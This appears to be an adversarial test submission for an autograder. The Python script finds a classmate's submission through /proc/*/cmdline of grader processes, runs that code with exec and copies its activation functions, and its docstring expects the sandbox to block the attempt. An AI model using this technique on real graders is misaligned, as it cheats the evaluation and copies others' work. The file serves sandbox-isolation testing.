"""Attack: copy a classmate graded in the same batch, found through /proc/*/cmdline.

The grader's command line names the batch (``formulacheck grade DIR`` or a
script given the submission files). Every process that looks like a grader
(its command line mentions formulacheck, checks.grader, zygote_main or the
test driver) is read; each .py file it names, and each .py file in each
directory it names, is parsed; the first one that defines the activations
(other than this file) is exec'd and its functions become this file's.

Expected verdict: no points (the classmate's files are not reachable);
the neighbour keeps full marks.
"""
import ast
import os

FUNCS = ("sigmoid", "sigmoid_backward", "tanh_backward", "relu_backward", "leaky_relu_backward", "prelu_backward")
GRADERISH = (b"formulacheck", b"checks.grader", b"zygote_main", b"fchostile-driver", b"bwrap")
ME = "copy_classmate_cmdline"


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _candidates():
    out = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as fh:
                argv = fh.read().split(b"\0")
        except OSError:
            continue
        if not any(g in a for a in argv for g in GRADERISH):
            continue
        for a in argv:
            p = a.decode("utf-8", "replace")
            if not p.startswith("/"):
                continue
            if p.endswith(".py") and p not in out:
                out.append(p)
            elif os.path.isdir(p):
                try:
                    names = sorted(os.listdir(p))
                except OSError:
                    continue
                out += [os.path.join(p, n) for n in names if n.endswith(".py") and os.path.join(p, n) not in out]
    return out


def _defines_all(src):
    try:
        tree = ast.parse(src)
    except (SyntaxError, ValueError):
        return False
    names = {n.name for n in tree.body if isinstance(n, ast.FunctionDef)}
    return set(FUNCS[:4]) <= names


def _copy():
    cands = _candidates()
    _say("candidates", len(cands))
    for path in cands:
        if ME in os.path.basename(path):
            continue
        try:
            with open(path, encoding="utf-8") as fh:
                src = fh.read(1 << 20)
        except (OSError, UnicodeDecodeError):
            continue
        if not _defines_all(src):
            continue
        ns = {"__name__": "classmate"}
        try:
            exec(compile(src, "classmate", "exec"), ns)
        except Exception:
            continue
        for fn in FUNCS:
            if callable(ns.get(fn)):
                globals()[fn] = ns[fn]
        _say("copied_from", os.path.basename(path))
        return
    _say("copied_from", "nothing")


_copy()
